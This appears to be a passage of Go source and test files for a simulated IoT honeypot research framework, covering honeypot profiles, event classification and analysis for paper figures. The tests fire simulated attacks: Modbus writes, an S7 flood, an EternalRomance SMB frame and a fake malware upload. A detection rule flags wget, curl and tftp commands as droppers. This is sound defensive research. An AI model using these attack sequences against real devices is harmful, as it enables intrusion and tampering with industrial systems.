			if ev.Honeypot == "HosTaGe" && ev.Protocol == iot.ProtoMQTT &&
				ev.Type == AttackPoisoning && ev.Detail == "arduino/sensors/smoke" {
				return true
			}
		}
		return false
	})
}

func TestUPotDiscoveryLogged(t *testing.T) {
	n, pots, log := deploy(t)
	upot := pots[1]
	resp := n.Query(netsim.MustParseIPv4("198.51.100.6"),
		netsim.Endpoint{IP: upot.IP, Port: 1900}, upnp.BuildMSearch("ssdp:all"), netsim.ProbeOptions{})
	if resp == nil {
		t.Fatal("U-Pot did not answer discovery")
	}
	if h, ok := upnp.ResponseHeaders(resp); !ok || !strings.Contains(h["USN"], "Socket-1_0") {
		t.Fatalf("headers %v", h)
	}
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "U-Pot" && ev.Protocol == iot.ProtoUPnP && ev.Type == AttackScan {
				return true
			}
		}
		return false
	})
}

func TestHosTaGeCoAPPoisoning(t *testing.T) {
	n, pots, log := deploy(t)
	hostage := pots[0]
	client := coap.NewClient(9)
	resp := n.Query(netsim.MustParseIPv4("198.51.100.7"),
		netsim.Endpoint{IP: hostage.IP, Port: 5683}, client.Put("/config/name", []byte("pwn")), netsim.ProbeOptions{})
	if resp == nil {
		t.Fatal("no CoAP response")
	}
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "HosTaGe" && ev.Protocol == iot.ProtoCoAP && ev.Type == AttackPoisoning {
				return true
			}
		}
		return false
	})
}

func TestDionaeaFTPMalwareCapture(t *testing.T) {
	n, pots, log := deploy(t)
	dionaea := pots[5]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.8"), netsim.Endpoint{IP: dionaea.IP, Port: 21})
	c := ftp.NewClient(conn)
	if _, err := c.ReadReply(time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := c.Login("anonymous", "", time.Second); !ok {
		t.Fatal("anonymous login failed")
	}
	payload := []byte("\x7fELF lokibot")
	if ok, err := c.Store("lokibot.bin", payload, time.Second); err != nil || !ok {
		t.Fatalf("store: %v %v", ok, err)
	}
	c.Quit(time.Second)
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "Dionaea" && ev.Type == AttackMalware &&
				string(ev.Payload) == string(payload) {
				return true
			}
		}
		return false
	})
}

func TestEventTimesUseSimClock(t *testing.T) {
	n, pots, log := deploy(t)
	clk := n.Clock().(*netsim.SimClock)
	clk.Advance(5 * 24 * time.Hour)
	upot := pots[1]
	n.Query(1, netsim.Endpoint{IP: upot.IP, Port: 1900}, upnp.BuildMSearch(""), netsim.ProbeOptions{})
	evs := waitEvents(t, log, func(evs []Event) bool { return len(evs) > 0 })
	want := netsim.ExperimentStart.Add(5 * 24 * time.Hour)
	if !evs[0].Time.Equal(want) {
		t.Fatalf("event time %v, want %v", evs[0].Time, want)
	}
}

func TestAnalysisAggregations(t *testing.T) {
	base := netsim.ExperimentStart
	events := []Event{
		{Time: base, Honeypot: "Cowrie", Protocol: iot.ProtoTelnet, Src: 1, Type: AttackBruteForce, Username: "admin", Password: "admin"},
		{Time: base, Honeypot: "Cowrie", Protocol: iot.ProtoTelnet, Src: 1, Type: AttackBruteForce, Username: "admin", Password: "admin"},
		{Time: base, Honeypot: "Cowrie", Protocol: iot.ProtoSSH, Src: 1, Type: AttackBruteForce, Username: "root", Password: "root"},
		{Time: base.Add(25 * time.Hour), Honeypot: "U-Pot", Protocol: iot.ProtoUPnP, Src: 2, Type: AttackDoS},
	}
	counts := CountByHoneypotProtocol(events)
	if counts["Cowrie"][iot.ProtoTelnet] != 2 || counts["U-Pot"][iot.ProtoUPnP] != 1 {
		t.Fatalf("counts %+v", counts)
	}
	uniq := UniqueSourcesByHoneypot(events)
	if len(uniq["Cowrie"]) != 1 {
		t.Fatalf("unique %+v", uniq)
	}
	daily := DailyCounts(events, base, 3)
	if daily[0] != 3 || daily[1] != 1 {
		t.Fatalf("daily %v", daily)
	}
	creds := TopCredentials(events, iot.ProtoTelnet, 10)
	if len(creds) != 1 || creds[0].Count != 2 || creds[0].Username != "admin" {
		t.Fatalf("creds %+v", creds)
	}
	sharesByType := TypeShares(events)
	if sharesByType["U-Pot"][AttackDoS] != 1.0 {
		t.Fatalf("shares %+v", sharesByType)
	}
}

func TestMultistageDetection(t *testing.T) {
	base := netsim.ExperimentStart
	events := []Event{
		{Time: base.Add(2 * time.Hour), Src: 9, Protocol: iot.ProtoSMB},
		{Time: base, Src: 9, Protocol: iot.ProtoTelnet},
		{Time: base.Add(3 * time.Hour), Src: 9, Protocol: iot.ProtoS7},
		{Time: base, Src: 10, Protocol: iot.ProtoTelnet}, // single protocol
		{Time: base, Src: 11, Protocol: iot.ProtoSSH},
		{Time: base.Add(time.Hour), Src: 11, Protocol: iot.ProtoSMB},
	}
	attacks := DetectMultistage(events)
	if len(attacks) != 2 {
		t.Fatalf("attacks %+v", attacks)
	}
	// Source 9's stages must be time-ordered: telnet → smb → s7.
	var nine MultistageAttack
	for _, a := range attacks {
		if a.Src == 9 {
			nine = a
		}
	}
	want := []iot.Protocol{iot.ProtoTelnet, iot.ProtoSMB, iot.ProtoS7}
	if len(nine.Protocols) != 3 {
		t.Fatalf("stages %v", nine.Protocols)
	}
	for i := range want {
		if nine.Protocols[i] != want[i] {
			t.Fatalf("stage order %v, want %v", nine.Protocols, want)
		}
	}
	stages := StageCounts(attacks)
	if stages[0][iot.ProtoTelnet] != 1 || stages[0][iot.ProtoSSH] != 1 {
		t.Fatalf("stage 0 %v", stages[0])
	}
	if stages[1][iot.ProtoSMB] != 2 {
		t.Fatalf("stage 1 %v", stages[1])
	}
}

func TestFilterBySources(t *testing.T) {
	events := []Event{{Src: 1}, {Src: 2}, {Src: 1}}
	got := FilterBySources(events, map[netsim.IPv4]bool{1: true})
	if len(got) != 1 || got[0].Src != 2 {
		t.Fatalf("filtered %+v", got)
	}
}
