package honeypot

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

func sampleEvents() []Event {
	base := netsim.ExperimentStart
	return []Event{
		{Time: base.Add(time.Hour), Honeypot: "Cowrie", Protocol: iot.ProtoTelnet,
			Src: netsim.MustParseIPv4("203.0.113.5"), Type: AttackBruteForce,
			Username: "admin", Password: "admin"},
		{Time: base.Add(26 * time.Hour), Honeypot: "Dionaea", Protocol: iot.ProtoFTP,
			Src: netsim.MustParseIPv4("198.51.100.9"), Type: AttackMalware,
			Payload: []byte{0x7f, 'E', 'L', 'F', 0x00, 0xff}, Detail: "mozi.arm7"},
		{Time: base.Add(27 * time.Hour), Honeypot: "U-Pot", Protocol: iot.ProtoUPnP,
			Src: netsim.MustParseIPv4("192.0.2.77"), Type: AttackDoS,
			Detail: "rate threshold exceeded"},
	}
}

func TestExportImportRoundTrip(t *testing.T) {
	events := sampleEvents()
	var buf bytes.Buffer
	if err := ExportJSONL(&buf, events); err != nil {
		t.Fatal(err)
	}
	got, err := ImportJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(events) {
		t.Fatalf("imported %d events, want %d", len(got), len(events))
	}
	for i := range events {
		want, have := events[i], got[i]
		if !want.Time.Equal(have.Time) || want.Honeypot != have.Honeypot ||
			want.Protocol != have.Protocol || want.Src != have.Src ||
			want.Type != have.Type || want.Username != have.Username ||
			want.Detail != have.Detail || !bytes.Equal(want.Payload, have.Payload) {
			t.Fatalf("event %d: %+v != %+v", i, have, want)
		}
	}
}

func TestExportRoundTripProperty(t *testing.T) {
	if err := quick.Check(func(user, pass, detail string, payload []byte, src uint32) bool {
		ev := Event{
			Time: netsim.ExperimentStart, Honeypot: "HosTaGe",
			Protocol: iot.ProtoMQTT, Src: netsim.IPv4(src), Type: AttackPoisoning,
			Username: user, Password: pass, Detail: detail, Payload: payload,
		}
		var buf bytes.Buffer
		if err := ExportJSONL(&buf, []Event{ev}); err != nil {
			return false
		}
		got, err := ImportJSONL(&buf)
		if err != nil || len(got) != 1 {
			return false
		}
		g := got[0]
		return g.Username == user && g.Password == pass && g.Detail == detail &&
			g.Src == netsim.IPv4(src) &&
			(len(payload) == 0 && len(g.Payload) == 0 || bytes.Equal(g.Payload, payload))
	}, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestImportRejectsGarbage(t *testing.T) {
	if _, err := ImportJSONL(strings.NewReader(`{"src":"not-an-ip"}`)); err == nil {
		t.Fatal("bad src imported")
	}
	if _, err := ImportJSONL(strings.NewReader(`{"src":"1.2.3.4","payload":"%%%"}`)); err == nil {
		t.Fatal("bad payload imported")
	}
	if _, err := ImportJSONL(strings.NewReader("not json")); err == nil {
		t.Fatal("non-JSON imported")
	}
}

func TestPartitionByDay(t *testing.T) {
	byDay, keys := PartitionByDay(sampleEvents())
	if len(keys) != 2 || keys[0] != "2021-04-01" || keys[1] != "2021-04-02" {
		t.Fatalf("keys %v", keys)
	}
	if len(byDay["2021-04-01"]) != 1 || len(byDay["2021-04-02"]) != 2 {
		t.Fatalf("partition sizes %d/%d", len(byDay["2021-04-01"]), len(byDay["2021-04-02"]))
	}
}

func TestExportEmptyLog(t *testing.T) {
	var buf bytes.Buffer
	if err := ExportJSONL(&buf, nil); err != nil {
		t.Fatal(err)
	}
	got, err := ImportJSONL(&buf)
	if err != nil || len(got) != 0 {
		t.Fatalf("empty round trip: %v, %v", got, err)
	}
}
