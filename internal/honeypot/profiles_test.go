package honeypot

import (
	"context"
	"strings"
	"testing"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/protocols/amqp"
	httpx "openhire/internal/protocols/http"
	"openhire/internal/protocols/modbus"
	"openhire/internal/protocols/s7"
	"openhire/internal/protocols/smb"
	"openhire/internal/protocols/xmpp"
)

func TestThingPotXMPPPoisoning(t *testing.T) {
	n, pots, log := deploy(t)
	thingpot := pots[3]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.20"), netsim.Endpoint{IP: thingpot.IP, Port: 5222})
	defer conn.Close()
	if _, _, err := xmpp.ProbeBanner(conn, "philips-hue.local", time.Second); err != nil {
		t.Fatal(err)
	}
	if ok, _ := xmpp.Authenticate(conn, "ANONYMOUS", "", "", time.Second); !ok {
		t.Fatal("anonymous bind rejected")
	}
	if _, err := xmpp.SendStanza(conn, `<iq type='set'><lights state='off'/></iq>`, time.Second); err != nil {
		t.Fatal(err)
	}
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "ThingPot" && ev.Type == AttackPoisoning &&
				strings.Contains(ev.Detail, "lights") {
				return true
			}
		}
		return false
	})
}

func TestConpotModbusPoisoning(t *testing.T) {
	n, pots, log := deploy(t)
	conpot := pots[2]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.21"), netsim.Endpoint{IP: conpot.IP, Port: 502})
	defer conn.Close()
	if err := modbus.WriteSingle(conn, 3, 999, time.Second); err != nil {
		t.Fatal(err)
	}
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "Conpot" && ev.Protocol == iot.ProtoModbus && ev.Type == AttackPoisoning {
				return true
			}
		}
		return false
	})
}

func TestConpotS7JobFloodDoS(t *testing.T) {
	n, pots, log := deploy(t)
	conpot := pots[2]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.22"), netsim.Endpoint{IP: conpot.IP, Port: 102})
	defer conn.Close()
	if err := s7.Connect(conn, time.Second); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 80; i++ {
		if _, err := conn.Write(s7.BuildJob(s7.FuncSetupComm)); err != nil {
			break
		}
	}
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "Conpot" && ev.Protocol == iot.ProtoS7 && ev.Type == AttackDoS {
				return true
			}
		}
		return false
	})
}

func TestHosTaGeAMQPPoisoning(t *testing.T) {
	n, pots, log := deploy(t)
	hostage := pots[0]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.23"), netsim.Endpoint{IP: hostage.IP, Port: 5672})
	defer conn.Close()
	sess, ok, err := amqp.Connect(conn, "PLAIN", "", "", time.Second)
	if err != nil || !ok {
		t.Fatalf("connect: %v %v", ok, err)
	}
	if err := sess.Publish("amq.topic", "sensors", []byte("poison")); err != nil {
		t.Fatal(err)
	}
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "HosTaGe" && ev.Protocol == iot.ProtoAMQP && ev.Type == AttackPoisoning {
				return true
			}
		}
		return false
	})
}

func TestHTTPMalwareUploadClassified(t *testing.T) {
	n, pots, log := deploy(t)
	dionaea := pots[5]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.24"), netsim.Endpoint{IP: dionaea.IP, Port: 80})
	defer conn.Close()
	body := make([]byte, 8192)
	if _, err := httpx.Do(conn, "POST", "/upload.php", body, time.Second); err != nil {
		t.Fatal(err)
	}
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "Dionaea" && ev.Protocol == iot.ProtoHTTP && ev.Type == AttackMalware {
				return true
			}
		}
		return false
	})
}

func TestSMBExploitClassified(t *testing.T) {
	n, pots, log := deploy(t)
	hostage := pots[0]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.25"), netsim.Endpoint{IP: hostage.IP, Port: 445})
	// Send only the NT-Trans exploit frame (the trailing 4 bytes of
	// BuildExploit are an empty payload frame that would upgrade the event
	// to a payload drop).
	exploit := smb.BuildExploit(smb.KindEternalRomance, nil)
	if _, err := conn.Write(exploit[:len(exploit)-4]); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 256)
	_ = conn.SetReadDeadline(time.Now().Add(time.Second))
	_, _ = conn.Read(buf)
	conn.Close()
	waitEvents(t, log, func(evs []Event) bool {
		for _, ev := range evs {
			if ev.Honeypot == "HosTaGe" && ev.Protocol == iot.ProtoSMB && ev.Type == AttackExploit {
				return true
			}
		}
		return false
	})
}

func TestFloodUpgrade(t *testing.T) {
	hp := New("X", "profile", 1, netsim.NewSimClock(netsim.ExperimentStart), &Log{})
	base := netsim.ExperimentStart
	for i := 0; i < floodThreshold; i++ {
		ev := Event{Time: base, Src: 9, Protocol: iot.ProtoUPnP, Type: AttackScan}
		hp.floodUpgrade(&ev)
		if ev.Type != AttackScan {
			t.Fatalf("event %d upgraded too early", i)
		}
	}
	ev := Event{Time: base, Src: 9, Protocol: iot.ProtoUPnP, Type: AttackScan}
	hp.floodUpgrade(&ev)
	if ev.Type != AttackDoS {
		t.Fatal("threshold crossing not upgraded")
	}
	// A different day resets the counter.
	ev2 := Event{Time: base.Add(24 * time.Hour), Src: 9, Protocol: iot.ProtoUPnP, Type: AttackScan}
	hp.floodUpgrade(&ev2)
	if ev2.Type != AttackScan {
		t.Fatal("new day inherited old counter")
	}
	// A different source is independent.
	ev3 := Event{Time: base, Src: 10, Protocol: iot.ProtoUPnP, Type: AttackScan}
	hp.floodUpgrade(&ev3)
	if ev3.Type != AttackScan {
		t.Fatal("distinct source inherited counter")
	}
}

func TestCowrieSSHAcceptsAndConpotTelnetBanner(t *testing.T) {
	n, pots, _ := deploy(t)
	conpot := pots[2]
	conn := dialOK(t, n, netsim.MustParseIPv4("198.51.100.26"), netsim.Endpoint{IP: conpot.IP, Port: 23})
	defer conn.Close()
	buf := make([]byte, 256)
	_ = conn.SetReadDeadline(time.Now().Add(time.Second))
	total := 0
	for total < 32 {
		n, err := conn.Read(buf[total:])
		total += n
		if err != nil {
			break
		}
	}
	if !strings.Contains(string(buf[:total]), "Connected to [00:13:EA") {
		t.Fatalf("Conpot banner %q", buf[:total])
	}
	_ = context.Background()
}
