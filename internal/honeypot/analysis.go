package honeypot

import (
	"sort"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// CountByHoneypotProtocol tallies events per (honeypot, protocol) — the
// Table 7 "#Attack events" column.
func CountByHoneypotProtocol(events []Event) map[string]map[iot.Protocol]int {
	out := make(map[string]map[iot.Protocol]int)
	for _, ev := range events {
		if out[ev.Honeypot] == nil {
			out[ev.Honeypot] = make(map[iot.Protocol]int)
		}
		out[ev.Honeypot][ev.Protocol]++
	}
	return out
}

// EventCounters flattens an event set into the named counter map the
// metrics registry and run manifest consume: the event total plus per-type,
// per-protocol and per-honeypot tallies. It walks the already-collected
// (striped, seq-merged) log snapshot, so computing it never touches the
// append hot path.
func EventCounters(events []Event) map[string]uint64 {
	out := map[string]uint64{"events": uint64(len(events))}
	for _, ev := range events {
		out["type."+string(ev.Type)]++
		out["protocol."+string(ev.Protocol)]++
		out["honeypot."+ev.Honeypot]++
	}
	return out
}

// UniqueSourcesByHoneypot returns the distinct source addresses seen per
// honeypot.
func UniqueSourcesByHoneypot(events []Event) map[string]map[netsim.IPv4]struct{} {
	out := make(map[string]map[netsim.IPv4]struct{})
	for _, ev := range events {
		if out[ev.Honeypot] == nil {
			out[ev.Honeypot] = make(map[netsim.IPv4]struct{})
		}
		out[ev.Honeypot][ev.Src] = struct{}{}
	}
	return out
}

// TypeShares returns per-honeypot attack-type fractions (Figure 4) when
// keyed by honeypot name, or per-protocol fractions (Figure 7) via
// TypeSharesByProtocol.
func TypeShares(events []Event) map[string]map[AttackType]float64 {
	counts := make(map[string]map[AttackType]int)
	totals := make(map[string]int)
	for _, ev := range events {
		if counts[ev.Honeypot] == nil {
			counts[ev.Honeypot] = make(map[AttackType]int)
		}
		counts[ev.Honeypot][ev.Type]++
		totals[ev.Honeypot]++
	}
	return shares(counts, totals)
}

// TypeSharesByProtocol returns attack-type fractions per protocol
// (Figure 7).
func TypeSharesByProtocol(events []Event) map[string]map[AttackType]float64 {
	counts := make(map[string]map[AttackType]int)
	totals := make(map[string]int)
	for _, ev := range events {
		key := string(ev.Protocol)
		if counts[key] == nil {
			counts[key] = make(map[AttackType]int)
		}
		counts[key][ev.Type]++
		totals[key]++
	}
	return shares(counts, totals)
}

func shares(counts map[string]map[AttackType]int, totals map[string]int) map[string]map[AttackType]float64 {
	out := make(map[string]map[AttackType]float64, len(counts))
	for key, m := range counts {
		out[key] = make(map[AttackType]float64, len(m))
		for t, n := range m {
			out[key][t] = float64(n) / float64(totals[key])
		}
	}
	return out
}

// DailyCounts buckets events per day from start (Figure 8's series).
func DailyCounts(events []Event, start time.Time, days int) []int {
	out := make([]int, days)
	for _, ev := range events {
		d := int(ev.Time.Sub(start) / (24 * time.Hour))
		if d >= 0 && d < days {
			out[d]++
		}
	}
	return out
}

// CredentialCount is one Table 12 row.
type CredentialCount struct {
	Protocol iot.Protocol
	Username string
	Password string
	Count    int
}

// TopCredentials extracts the most-attempted credential pairs per protocol
// (Table 12: Telnet and SSH).
func TopCredentials(events []Event, proto iot.Protocol, limit int) []CredentialCount {
	type key struct{ u, p string }
	counts := make(map[key]int)
	for _, ev := range events {
		if ev.Protocol != proto || (ev.Username == "" && ev.Password == "") {
			continue
		}
		counts[key{ev.Username, ev.Password}]++
	}
	out := make([]CredentialCount, 0, len(counts))
	for k, n := range counts {
		out = append(out, CredentialCount{Protocol: proto, Username: k.u, Password: k.p, Count: n})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		if out[i].Username != out[j].Username {
			return out[i].Username < out[j].Username
		}
		return out[i].Password < out[j].Password
	})
	if limit > 0 && len(out) > limit {
		out = out[:limit]
	}
	return out
}

// MultistageAttack is one detected multi-protocol sequence from a single
// source (Section 5.4): the protocols in first-seen order.
type MultistageAttack struct {
	Src       netsim.IPv4
	Protocols []iot.Protocol
	Events    int
}

// DetectMultistage groups events by source and reports sources that
// attacked two or more protocols, following the paper's method ("we group
// the attacks from distinct source IP addresses and check if multiple
// protocols are targeted"; time between stages is deliberately ignored).
// Pure scanning sources can be excluded by the caller before invoking.
func DetectMultistage(events []Event) []MultistageAttack {
	type state struct {
		order []iot.Protocol
		seen  map[iot.Protocol]bool
		count int
		first time.Time
	}
	bySrc := make(map[netsim.IPv4]*state)
	// Sort by time so stage order is meaningful.
	sorted := append([]Event(nil), events...)
	sort.SliceStable(sorted, func(i, j int) bool { return sorted[i].Time.Before(sorted[j].Time) })
	for _, ev := range sorted {
		st := bySrc[ev.Src]
		if st == nil {
			st = &state{seen: make(map[iot.Protocol]bool), first: ev.Time}
			bySrc[ev.Src] = st
		}
		st.count++
		if !st.seen[ev.Protocol] {
			st.seen[ev.Protocol] = true
			st.order = append(st.order, ev.Protocol)
		}
	}
	var out []MultistageAttack
	for src, st := range bySrc {
		if len(st.order) >= 2 {
			out = append(out, MultistageAttack{Src: src, Protocols: st.order, Events: st.count})
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Src < out[j].Src })
	return out
}

// StageCounts tallies, for each stage index, how many multistage attacks
// hit each protocol at that stage (the Figure 9 flow diagram data).
func StageCounts(attacks []MultistageAttack) []map[iot.Protocol]int {
	var out []map[iot.Protocol]int
	for _, a := range attacks {
		for stage, p := range a.Protocols {
			for stage >= len(out) {
				out = append(out, make(map[iot.Protocol]int))
			}
			out[stage][p]++
		}
	}
	return out
}

// FilterBySources drops events whose source is in the exclusion set
// (scanning services are removed before multistage analysis).
func FilterBySources(events []Event, exclude map[netsim.IPv4]bool) []Event {
	out := make([]Event, 0, len(events))
	for _, ev := range events {
		if !exclude[ev.Src] {
			out = append(out, ev)
		}
	}
	return out
}
