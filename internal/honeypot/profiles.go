package honeypot

import (
	"strings"

	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/protocols/amqp"
	"openhire/internal/protocols/coap"
	"openhire/internal/protocols/ftp"
	httpx "openhire/internal/protocols/http"
	"openhire/internal/protocols/modbus"
	"openhire/internal/protocols/mqtt"
	"openhire/internal/protocols/s7"
	"openhire/internal/protocols/smb"
	"openhire/internal/protocols/ssh"
	"openhire/internal/protocols/telnet"
	"openhire/internal/protocols/upnp"
	"openhire/internal/protocols/xmpp"
)

// classifyShellCommands labels a post-auth command list: download commands
// indicate a malware dropper.
func classifyShellCommands(cmds []string) (AttackType, string) {
	for _, c := range cmds {
		lc := strings.ToLower(c)
		if strings.Contains(lc, "wget ") || strings.Contains(lc, "curl ") ||
			strings.Contains(lc, "tftp ") || strings.Contains(lc, "ftpget") {
			return AttackMalware, c
		}
	}
	if len(cmds) > 0 {
		return AttackBruteForce, strings.Join(cmds, "; ")
	}
	return AttackScan, ""
}

// telnetService builds a Telnet service whose events flow into the log.
func telnetService(h *Honeypot, cfg telnet.Config) Service {
	cfg.OnEvent = func(ev telnet.Event) {
		e := Event{Time: ev.Time, Protocol: iot.ProtoTelnet, Src: ev.Remote,
			Username: ev.Username, Password: ev.Password}
		switch {
		case len(ev.Commands) > 0:
			e.Type, e.Detail = classifyShellCommands(ev.Commands)
			if e.Type == AttackMalware {
				e.Payload = []byte(e.Detail)
			}
		case ev.Username != "" || ev.Password != "":
			e.Type = AttackBruteForce
		default:
			e.Type = AttackScan
		}
		h.Record(e)
	}
	return Service{Port: 23, Transport: netsim.TCP, Protocol: iot.ProtoTelnet,
		Stream: telnet.NewServer(cfg)}
}

// sshService builds an SSH service feeding the log.
func sshService(h *Honeypot, cfg ssh.Config) Service {
	cfg.OnEvent = func(ev ssh.Event) {
		e := Event{Time: ev.Time, Protocol: iot.ProtoSSH, Src: ev.Remote}
		switch {
		case len(ev.Commands) > 0:
			e.Type, e.Detail = classifyShellCommands(ev.Commands)
			if e.Type == AttackMalware {
				e.Payload = []byte(e.Detail)
			}
		case len(ev.Attempts) >= 4:
			e.Type = AttackDictionary
		case len(ev.Attempts) > 0:
			e.Type = AttackBruteForce
		default:
			e.Type = AttackScan
		}
		if len(ev.Attempts) > 0 {
			e.Username = ev.Attempts[len(ev.Attempts)-1].Username
			e.Password = ev.Attempts[len(ev.Attempts)-1].Password
		}
		h.Record(e)
		// Dictionary runs log each attempted pair for Table 12.
		for _, cred := range ev.Attempts[:max(0, len(ev.Attempts)-1)] {
			h.Record(Event{Time: ev.Time, Protocol: iot.ProtoSSH, Src: ev.Remote,
				Type: AttackBruteForce, Username: cred.Username, Password: cred.Password})
		}
	}
	return Service{Port: 22, Transport: netsim.TCP, Protocol: iot.ProtoSSH,
		Stream: ssh.NewServer(cfg)}
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// mqttService builds an MQTT broker feeding the log.
func mqttService(h *Honeypot, topicSeed map[string]string) Service {
	broker := mqtt.NewBroker(mqtt.BrokerConfig{
		OnEvent: func(ev mqtt.Event) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoMQTT, Src: ev.Remote,
				Username: ev.Username, Password: ev.Password}
			switch ev.Kind {
			case mqtt.EventPublish:
				e.Type = AttackPoisoning
				e.Detail = ev.Topic
				e.Payload = ev.Payload
			case mqtt.EventSysAccess:
				e.Type = AttackScan
				e.Detail = "$SYS access: " + ev.Topic
			default:
				e.Type = AttackScan
				e.Detail = ev.Topic
			}
			h.floodUpgrade(&e)
			h.Record(e)
		},
	})
	for topic, value := range topicSeed {
		broker.Retain(topic, []byte(value))
	}
	return Service{Port: 1883, Transport: netsim.TCP, Protocol: iot.ProtoMQTT,
		Stream: broker}
}

// amqpService builds an AMQP broker feeding the log.
func amqpService(h *Honeypot) Service {
	srv := amqp.NewServer(amqp.ServerConfig{
		OnEvent: func(ev amqp.Event) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoAMQP, Src: ev.Remote,
				Username: ev.Username}
			switch ev.Kind {
			case amqp.EventPublish:
				e.Type = AttackPoisoning
				e.Detail = ev.Exchange
				e.Payload = ev.Body
			default:
				e.Type = AttackScan
			}
			h.floodUpgrade(&e)
			h.Record(e)
		},
	})
	return Service{Port: 5672, Transport: netsim.TCP, Protocol: iot.ProtoAMQP,
		Stream: srv}
}

// coapService builds a CoAP endpoint feeding the log.
func coapService(h *Honeypot, device string) Service {
	srv := coap.NewServer(coap.ServerConfig{
		Policy:    coap.AccessOpen,
		Clock:     h.Clock,
		Resources: coap.DefaultSensorResources(device),
		OnEvent: func(ev coap.RequestEvent) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoCoAP, Src: ev.From,
				Detail: ev.Path}
			switch {
			case ev.Code == coap.CodePUT || ev.Code == coap.CodePOST || ev.Code == coap.CodeDELETE:
				e.Type = AttackPoisoning
				e.Payload = ev.Payload
			default:
				e.Type = AttackScan
			}
			h.floodUpgrade(&e)
			h.Record(e)
		},
	})
	return Service{Port: 5683, Transport: netsim.UDP, Protocol: iot.ProtoCoAP,
		Datagram: srv}
}

// upnpService builds an SSDP responder feeding the log.
func upnpService(h *Honeypot, device upnp.Device) Service {
	srv := upnp.NewResponder(upnp.ResponderConfig{
		Device:         device,
		AnswerInternet: true,
		Clock:          h.Clock,
		OnEvent: func(ev upnp.RequestEvent) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoUPnP, Src: ev.From,
				Type: AttackScan, Detail: ev.ST}
			h.floodUpgrade(&e)
			h.Record(e)
		},
	})
	return Service{Port: 1900, Transport: netsim.UDP, Protocol: iot.ProtoUPnP,
		Datagram: srv}
}

// xmppService builds an XMPP endpoint feeding the log.
func xmppService(h *Honeypot) Service {
	srv := xmpp.NewServer(xmpp.ServerConfig{
		Features: xmpp.Features{
			Mechanisms: []string{"PLAIN", "ANONYMOUS"},
			Domain:     "philips-hue.local",
			Software:   "thingpot",
		},
		AllowAnonymous: true,
		StanzaHandler: func(stanza string) string {
			if strings.Contains(stanza, "lights") {
				return `<iq type='result'><lights state='on'/></iq>`
			}
			return `<iq type='error'/>`
		},
		OnEvent: func(ev xmpp.Event) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoXMPP, Src: ev.Remote,
				Username: ev.Username, Password: ev.Password}
			switch ev.Kind {
			case xmpp.EventAuthAttempt:
				e.Type = AttackBruteForce
				if strings.EqualFold(ev.Mechanism, "ANONYMOUS") {
					e.Type = AttackScan
					e.Detail = "anonymous bind"
				}
			case xmpp.EventStanza:
				e.Type = AttackPoisoning
				e.Detail = truncate(ev.Stanza, 80)
			default:
				e.Type = AttackScan
			}
			h.Record(e)
		},
	})
	return Service{Port: 5222, Transport: netsim.TCP, Protocol: iot.ProtoXMPP,
		Stream: srv}
}

// httpService builds an HTTP front-end feeding the log.
func httpService(h *Honeypot, title, server string) Service {
	get, post := httpx.LoginPage(title, func(string, string) bool { return false })
	srv := httpx.NewServer(httpx.ServerConfig{
		ServerHeader: server,
		Routes: map[string]httpx.Handler{
			"/":           httpx.StaticPage("<html><title>" + title + "</title><a href='/login'>login</a></html>"),
			"/login":      get,
			"/doLogin":    post,
			"/robots.txt": httpx.StaticPage("User-agent: *\nDisallow: /"),
		},
		LoginPath: "/doLogin",
		OnEvent: func(ev httpx.Event) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoHTTP, Src: ev.Remote,
				Username: ev.Username, Password: ev.Password, Detail: ev.Method + " " + ev.Path}
			switch {
			case ev.Username != "" || ev.Password != "":
				e.Type = AttackBruteForce
			case ev.Method == "POST" && ev.BodySize > 4096:
				e.Type = AttackMalware
			default:
				e.Type = AttackWebScrape
			}
			if e.Type == AttackWebScrape {
				h.floodUpgrade(&e)
			}
			h.Record(e)
		},
	})
	return Service{Port: 80, Transport: netsim.TCP, Protocol: iot.ProtoHTTP,
		Stream: srv}
}

// ftpService builds an FTP endpoint feeding the log.
func ftpService(h *Honeypot) Service {
	srv := ftp.NewServer(ftp.Config{
		Banner:         "220 (vsFTPd 2.3.4)",
		AllowAnonymous: true,
		AllowWrite:     true,
		OnEvent: func(ev ftp.Event) {
			e := Event{Time: ev.Time, Protocol: iot.ProtoFTP, Src: ev.Remote,
